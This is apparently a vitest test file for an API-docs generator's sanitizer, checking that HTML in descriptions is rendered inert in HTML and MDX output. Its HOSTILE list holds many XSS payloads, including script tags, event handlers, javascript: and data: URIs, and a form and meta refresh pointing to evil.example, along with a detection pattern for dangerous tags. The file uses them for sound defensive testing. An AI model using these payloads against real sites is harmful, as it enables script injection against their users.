/**
 * HTML written in descriptions (issue 37): rendered as its writer meant it, cleaned with
 * GitHub's allow-list, and shaped like the generator's own Markdown: links and images through
 * the same link policy, headings below the page's own, tables in their scrolling box.
 * Whatever a description holds, the HTML and MDX the generator writes are inert.
 */
import {describe, expect, it} from 'vitest';
import {inlineMarkdownToHtml, markdownToHtml, markdownToPlainText, summarize} from '../render/markdown';
import {toSafeInline, toSafeMdx} from '../render/safeMdx';
import {renderMdx} from './renderMdx';

/** A reference's link policy: Redoc links to their page, absolute URLs kept, anything else text. */
const policy = (href: string) =>
  href.startsWith('#operation/')
    ? `/docs/api/partner-api/${href.slice('#operation/'.length)}`
    : /^(?:https?:|mailto:)/i.test(href) || href.startsWith('/img/')
      ? href
      : null;

/** Real tags only: escaped text such as `&lt;script&gt;` is harmless by definition. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<!--/);
  for (const [tag, name, attributes] of html.matchAll(/<([a-z][a-z0-9-]*)\b([^>]*)>/gi)) {
    expect(name.toLowerCase(), tag).not.toMatch(
      /^(script|iframe|frame|object|embed|applet|form|input|button|textarea|select|style|link|meta|base|svg|math|template|noscript|video|audio|source|picture)$/,
    );
    expect(attributes, tag).not.toMatch(/(^|\s)(on[a-z]+|style|srcset|srcdoc|formaction|action|xlink:href)\s*=/i);
    expect(attributes, tag).not.toMatch(/(href|src)\s*=\s*"?\s*(javascript|data|vbscript):/i);
    // The site loads nothing from another host: an image is the site's own.
    for (const [, src] of attributes.matchAll(/\ssrc="([^"]*)"/g)) expect(src, tag).toMatch(/^\/[^/\\]/);
  }
}

const HOSTILE = [
  '<script>alert(1)</script>after script',
  '<img src=x onerror="alert(1)">',
  '<a href="https://example.com" onclick="alert(1)">click</a>',
  '<p onmouseover="alert(1)" style="position:fixed;inset:0">cover</p>',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt:alert(1)">js mixed case</a>',
  '<a href=" javascript:alert(1)">js with a space</a>',
  '<a href="java\tscript:alert(1)">js with a tab</a>',
  '<a href="jav&#x61;script:alert(1)">entity encoded</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">all entities</a>',
  '[markdown js](javascript:alert(1)) ![markdown img](javascript:alert(1))',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data image">',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body { display: none }</style>styled away',
  '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">svg link</a></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<form action="https://evil.example"><input name="card"><button formaction="javascript:alert(1)">Pay</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<details open ontoggle="alert(1)"><summary>more</summary>hidden</details>',
  '<noscript><img src=x onerror=alert(1)></noscript><template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<img src="https://evil.example/pixel.gif" alt="tracker"> <img src="//evil.example/x.png"> <img src="/\\evil.example/x.png">',
  '<img src="/img/logo.svg" srcset="https://evil.example/x.png 2x" onerror="alert(1)" alt="logo">',
  '<picture><source srcset="https://evil.example/x.png"><img src="/img/a.png" alt="a"></picture>',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  '<!-- <script>alert(1)</script> -->after a comment',
  '<b onmouseover="alert(1)">unclosed <i>tags <a href="javascript:alert(1)">and a link',
  '<a href="https://example.com"><img src="https://evil.example/in-link.png" alt="inside"></a>',
  '<div id="__docusaurus" class="navbar" data-x="1">clobbering names</div>',
  '<scr<script>ipt>alert(1)</script>',
  '<<img src=x onerror=alert(1)//<',
  '{constructor.constructor("alert(1)")()} <Foo bar={alert(1)} />',
];

describe('a tag whose attribute quote is never closed', () => {
  it('is read with the quote closed before its >, as written to mean, through the link policy', () => {
    // Pinterest's bid multiplier: a relative link, which this policy shows as text.
    const relativeAsText = (href: string) => (href.startsWith('/') ? null : href);
    const html = markdownToHtml(
      '<a href="/docs/beta/" target="blank>Open beta</a>\nBid multiplier. Enter 0 to remove it.',
      relativeAsText,
    );
    expect(html).not.toContain('&lt;a');
    expect(html).toContain('Open beta');
    expect(html).toContain('Bid multiplier. Enter 0 to remove it.');
    expect(markdownToHtml('<a href="https://x.example/b" target="blank>Open beta</a> now')).toContain(
      '<a href="https://x.example/b"',
    );
  });

  it('leaves a > inside a value whose quote closes later, and a paragraph that quotes later', () => {
    expect(markdownToHtml('<a title="a > b" href="https://x.example">ab</a>')).toBe(
      '<p><a title="a > b" href="https://x.example">ab</a></p>',
    );
    expect(markdownToHtml('<span title="x>y">, said "z"')).toBe('<p><span title="x>y">, said "z"</span></p>');
  });

  it('leaves code as written, and text whose "tag" names no HTML element', () => {
    expect(markdownToHtml('Send `<a href="x>` as it is.')).toBe(
      '<p>Send <code>&lt;a href=&quot;x&gt;</code> as it is.</p>',
    );
    // A code block's text, highlighted or not: its quote stays unclosed.
    const codeText = (markdown: string) =>
      markdownToHtml(markdown)
        .replace(/<[^>]+>/g, '')
        .replace(/&quot;/g, '"')
        .replace(/&gt;/g, '>');
    expect(codeText('```html\n<input value="abc>\n```')).toContain('value="abc>');
    expect(codeText('    <input value="abc>')).toContain('value="abc>');
    expect(markdownToHtml('Write x<y and a="b> c')).toBe('<p>Write x&lt;y and a=&quot;b&gt; c</p>');
  });
});

describe('HTML in descriptions', () => {
  it('renders Stripe-style paragraphs with links and code', () => {
    const text =
      '<p>Creates a <a href="https://stripe.com/docs/api/charges">charge</a> for <code>amount</code>.</p>\n' +
      '<p>See <a href="#operation/void-card">Void a card</a> &amp; more.</p>';
    expect(markdownToHtml(text, policy)).toBe(
      '<p>Creates a <a href="https://stripe.com/docs/api/charges">charge</a> for <code>amount</code>.</p>\n' +
        '<p>See <a href="/docs/api/partner-api/void-card">Void a card</a> &amp; more.</p>',
    );
    expect(summarize(text, 'fallback')).toBe('Creates a charge for amount.');
  });

  it('keeps a line break in a parameter description, as block and inline', () => {
    expect(markdownToHtml('The card number.<br>Test cards only.', policy)).toBe(
      '<p>The card number.<br>Test cards only.</p>',
    );
    expect(inlineMarkdownToHtml('One<br/>two', policy)).toBe('One<br>two');
    expect(markdownToPlainText('One<br>two')).toBe('One two');
  });

  it('reads a callout theme before a quote as an alert of that kind, and drops other comments', () => {
    const text = '<!-- theme: warning -->\n\n> **Careful:** the secret never leaves your server.';
    expect(markdownToHtml(text, policy)).toBe(
      '<blockquote class="alert alert--warning">\n<p><strong>Careful:</strong> the secret never leaves your server.</p>\n</blockquote>',
    );
    expect(markdownToHtml('<!-- theme: danger -->\n> Gone soon.', policy)).toBe(
      '<blockquote class="alert alert--danger">\n<p>Gone soon.</p>\n</blockquote>',
    );
    // An unknown theme, or a theme before something that is not a quote: a comment like any other.
    expect(markdownToHtml('<!-- theme: sparkly -->\n\n> Quote.', policy)).toBe(
      '<blockquote>\n<p>Quote.</p>\n</blockquote>',
    );
    expect(markdownToHtml('<!-- theme: info -->\n\nText.', policy)).toBe('<p>Text.</p>');
    expect(summarize(text, 'fallback')).toBe('Careful: the secret never leaves your server.');
    expect(markdownToPlainText('Text <!-- a note --> more')).toBe('Text more');
  });

  it('keeps a space where one block ends and the next begins (PagerDuty’s callout heading)', () => {
    expect(markdownToPlainText('> ### Early Access\n> This API is new.')).toBe('Early Access This API is new.');
    expect(markdownToPlainText('- one\n- two')).toBe('one two');
  });

  it('renders tables and lists, a table in the scrolling box the Markdown tables have', () => {
    const table = markdownToHtml(
      '<table>\n<tr><th>Code</th><th style="white-space: nowrap">Meaning</th></tr>\n' +
        '<tr><td><code>card_declined</code></td><td>The card was <b>declined</b>.</td></tr>\n</table>',
      policy,
    );
    expect(table).toBe(
      '<div class="api-table-scroll" tabindex="0"><table>\n<tbody><tr><th>Code</th><th>Meaning</th></tr>\n' +
        '<tr><td><code>card_declined</code></td><td>The card was <b>declined</b>.</td></tr>\n</tbody></table></div>',
    );
    expect(
      markdownToHtml('<ul><li>one</li><li><em>two</em></li></ul>\n\n<ol start="3"><li>three</li></ol>', policy),
    ).toBe('<ul><li>one</li><li><em>two</em></li></ul>\n<ol start="3"><li>three</li></ol>');
    // In a line, blocks are unwrapped a word apart.
    expect(inlineMarkdownToHtml('<p>First.</p><p>Second.</p>', policy)).toBe('First. Second.');
  });

  it('moves HTML headings below the page’s own, as it moves Markdown headings', () => {
    expect(markdownToHtml('<h1 onclick="alert(1)">Raw</h1>\n\n## Markdown\n\n<h5>Deep</h5>', policy)).toBe(
      '<h4 class="api-md-heading">Raw</h4>\n<h5 class="api-md-heading">Markdown</h5>\n<h6 class="api-md-heading">Deep</h6>',
    );
  });

  it('highlights code the same with or without HTML around it', () => {
    const fence = '```json\n{"amount": 100}\n```';
    const alone = markdownToHtml(fence, policy);
    expect(alone).toContain('<span class="token property">');
    expect(markdownToHtml(`${fence}\n\n<p>After.</p>`, policy)).toBe(`${alone}\n<p>After.</p>`);
  });

  it('shows a placeholder written as a tag as text', () => {
    expect(markdownToHtml('GET /cards/<id> returns List<Card> or <string>.', policy)).toBe(
      '<p>GET /cards/&lt;id&gt; returns List&lt;Card&gt; or &lt;string&gt;.</p>',
    );
    // Even alone on a line, where a tag would start an HTML block.
    expect(markdownToHtml('<uuid>\nThe card’s **id**.', policy)).toBe(
      '<p>&lt;uuid&gt;\nThe card’s <strong>id</strong>.</p>',
    );
  });

  it('sends HTML links and images through the link policy, as Markdown links and images', () => {
    const markdown =
      '[op](#operation/void-card) [none](/none/) ![diagram](https://cdn.example/a.png) ![logo](/img/logo.svg)';
    const html =
      '<a href="#operation/void-card">op</a> <a href="/none/">none</a> ' +
      '<img src="https://cdn.example/a.png" alt="diagram"> <img src="/img/logo.svg" alt="logo">';
    const expected =
      '<p><a href="/docs/api/partner-api/void-card">op</a> none <a href="https://cdn.example/a.png">diagram</a> ' +
      '<img src="/img/logo.svg" alt="logo"></p>';
    expect(markdownToHtml(markdown, policy)).toBe(expected);
    expect(markdownToHtml(html, policy)).toBe(expected);
    // An image inside a link cannot become a link of its own.
    expect(
      markdownToHtml('<a href="https://example.com"><img src="https://cdn.example/a.png" alt="a"></a>', policy),
    ).toBe('<p><a href="https://example.com">a</a></p>');
  });

  it('links an image with no alt by its file name, names a link by it when it is the link’s text, and reads Bump’s size after its address', () => {
    const link = '<p><a href="https://cdn.example/img/play-circle.svg?colour=231f20">play-circle.svg</a></p>';
    expect(
      markdownToHtml('<p><img src="https://cdn.example/img/play-circle.svg?colour=231f20" alt=""></p>', policy),
    ).toBe(link);
    expect(markdownToHtml('![](https://cdn.example/img/play-circle.svg?colour=231f20)', policy)).toBe(link);
    expect(markdownToHtml('[Run](https://example.com/run) ![](https://example.com/x.png)', policy)).toBe(
      '<p><a href="https://example.com/run">Run</a> <a href="https://example.com/x.png">x.png</a></p>',
    );
    expect(markdownToHtml('[![](https://example.com/x.png)](https://example.com/run)', policy)).toBe(
      '<p><a href="https://example.com/run">x.png</a></p>',
    );
    expect(
      markdownToHtml(
        '[![Run In Postman](https://run.pstmn.io/button.svg =128pxx32px)](https://example.com/run)',
        policy,
      ),
    ).toBe('<p><a href="https://example.com/run">Run In Postman</a></p>');
    expect(markdownToHtml('![logo](/img/logo.svg =100x)', policy)).toBe('<p><img src="/img/logo.svg" alt="logo"></p>');
  });

  it('renders a text with HTML once per link policy', () => {
    const seen: string[] = [];
    const counting = (href: string) => (seen.push(href), href);
    const text = '<p><a href="https://example.com/once">once</a></p>';
    const first = markdownToHtml(text, counting);
    expect(markdownToHtml(text, counting)).toBe(first);
    expect(seen).toEqual(['https://example.com/once']);
  });

  it('gives plain text without tags, comments or entities for front matter and search', () => {
    expect(
      markdownToPlainText('<!-- x -->\n\n<p>Creates a <code>Charge</code> &amp; a <a href="/x">receipt</a>.</p>'),
    ).toBe('Creates a Charge & a receipt.');
    expect(summarize('<h2>Overview</h2><p>Lists cards.</p>', 'fallback')).toBe('Overview Lists cards.');
    expect(summarize('<!-- only a comment -->', 'fallback')).toBe('fallback');
  });

  describe('a hostile text is inert', () => {
    for (const text of HOSTILE) {
      it(JSON.stringify(text), async () => {
        expectInert(markdownToHtml(text, policy));
        expectInert(markdownToHtml(text, (href) => href));
        expectInert(inlineMarkdownToHtml(text, policy));
        // Plain text holds no tag or comment: a `<` in it is one the writer wrote as text.
        const plain = markdownToPlainText(text);
        expect(plain).not.toContain('<!--');
        for (const [written] of plain.matchAll(/<[^\s<>]*/g))
          expect(markdownToHtml(text, policy)).toContain(written.replace('<', '&lt;'));
        // Written into a tag or overview page's MDX, it compiles and renders inert too.
        expectInert(await renderMdx(`${toSafeMdx(text, policy)}\n\n| a |\n| - |\n| ${toSafeInline(text, policy)} |\n`));
      });
    }

    it('keeps the text around what it removes', () => {
      expect(markdownToHtml(HOSTILE[0], policy)).toBe('after script');
      expect(markdownToHtml('<a href="javascript:alert(1)">js</a>', policy)).toBe('<p>js</p>');
      expect(markdownToHtml('[markdown js](javascript:alert(1))', policy)).toBe('<p>markdown js</p>');
      expect(markdownToHtml('<b onmouseover="alert(1)">unclosed <i>tags', policy)).toBe(
        '<p><b>unclosed <i>tags</i></b></p>',
      );
      expect(markdownToHtml('<img src="https://evil.example/pixel.gif" alt="tracker">', policy)).toBe(
        '<a href="https://evil.example/pixel.gif">tracker</a>',
      );
    });
  });
});

describe('HTML in a page’s own description (overview, tag)', () => {
  it('writes Markdown without HTML as before', () => {
    expect(toSafeMdx('Use {x} and `code` when a < b or <id>', policy)).toBe(
      'Use &#123;x&#125; and `code` when a &lt; b or &lt;id&gt;',
    );
  });

  it('shows a Stoplight callout as the alert it is on operation pages, its comment unseen', async () => {
    const mdx = toSafeMdx(
      'Short intro.\n\n<!-- theme: warning -->\n\n> ### Early Access\n> Body.\n\n## Later\n\nText.',
      policy,
    );
    expect(mdx).not.toContain('theme:');
    expect(mdx).toContain('## Later\n\nText.');
    const html = await renderMdx(mdx);
    expect(html).toMatch(
      /<blockquote class="alert alert--warning">\s*<h3 class="api-md-heading">Early Access<\/h3><p>Body\.<\/p>/,
    );
    expect(html).not.toContain('&lt;!--');
  });

  it('links an autolink of a web or email address without its angle brackets, and leaves other <…> as text', async () => {
    const mdx = toSafeMdx(
      'Docs at <https://developer.example.org/sms_api/overview>, help at <help@example.org>; send <id> or <soap:Envelope>.',
      policy,
    );
    expect(mdx).toBe(
      'Docs at [https://developer.example.org/sms\\_api/overview](https://developer.example.org/sms_api/overview), ' +
        'help at [help@example.org](mailto:help@example.org); send &lt;id&gt; or &lt;soap:Envelope&gt;.',
    );
    const html = await renderMdx(mdx);
    expect(html).toContain(
      '<a href="https://developer.example.org/sms_api/overview">https://developer.example.org/sms_api/overview</a>,',
    );
    expect(html).not.toContain('&lt;<a');
  });

  it('loads no image from elsewhere: links it by its alt or file, or gives its link its text, and reads Bump’s sizes', async () => {
    const text =
      'Try [![Run In Postman](https://run.pstmn.io/button.svg =128pxx32px)](https://app.example.com/run).\n\n' +
      'See ![](https://cdn.example/img/%7Bx%7D.png) and ![logo](/img/logo.svg =64x).';
    const mdx = toSafeMdx(text, policy);
    expect(mdx).toBe(
      'Try [Run In Postman](https://app.example.com/run).\n\n' +
        'See [-x-.png](https://cdn.example/img/%7Bx%7D.png) and ![logo](/img/logo.svg).',
    );
    const html = await renderMdx(mdx);
    expect(html).not.toMatch(/<img[^>]+src="https?:/);
    expect(html).toContain('<img src="/img/logo.svg" alt="logo"/>');
  });

  it('moves headings that start at the title’s level down one, so they get anchors and a place in the contents', () => {
    const text =
      '# Introduction\n\nQoD {sets} priorities.\n\n## Scope\n\nThe network.\n\nSetext\n======\n\n```\n# not a heading\n```';
    expect(toSafeMdx(text, policy)).toBe(
      '## Introduction\n\nQoD &#123;sets&#125; priorities.\n\n### Scope\n\nThe network.\n\n## Setext\n\n```\n# not a heading\n```',
    );
    // A security scheme's description sits under its scheme's heading.
    expect(toSafeMdx('# Tokens\n\nShort-lived.', policy, 4)).toBe('#### Tokens\n\nShort-lived.');
    // Headings already below the title stay where they are.
    expect(toSafeMdx('## Scope\n\nThe network.', policy)).toBe('## Scope\n\nThe network.');
  });

  it('keeps its headings as the page’s (table of contents, anchors) and renders the HTML between them', async () => {
    const mdx = toSafeMdx(
      '## Get set up\n\nCreate an <a href="https://example.com/register" target="_blank">account</a>.\n\n' +
        '<h3>Postcards</h3>\n\n<table><tr><td><code>postcard.created</code></td></tr></table>\n\n' +
        '## Plain part\n\nNo HTML {here}.\n\n## The <code>card</code> object',
      policy,
    );
    expect(mdx).toContain('## Get set up\n');
    expect(mdx).toContain('### Postcards\n');
    expect(mdx).toContain('## Plain part\n\nNo HTML &#123;here&#125;.');
    // The table of contents shows a heading's MDX as written: a heading with HTML keeps its words.
    expect(mdx).toContain('## The card object');
    const html = await renderMdx(mdx);
    expect(html).toContain('<h2>Get set up</h2>');
    expect(html).toContain('Create an <a href="https://example.com/register">account</a>.');
    expect(html).toContain('<h3>Postcards</h3>');
    expect(html).toContain('<div class="api-table-scroll" tabindex="0"><table>');
    expectInert(html);
  });

  it('writes a line with HTML as JSX whose text MDX does not read', async () => {
    const line = toSafeInline(
      'A <b>bold</b> {claim} | with *stars*<br>and a <a href="#operation/void-card">link</a>',
      policy,
    );
    expect(line).not.toContain('|');
    const html = await renderMdx(`| a |\n| - |\n| ${line} |\n`);
    expect(html).toContain(
      'A <b>bold</b> {claim} | with <em>stars</em><br/>and a <a href="/docs/api/partner-api/void-card">link</a>',
    );
  });
});
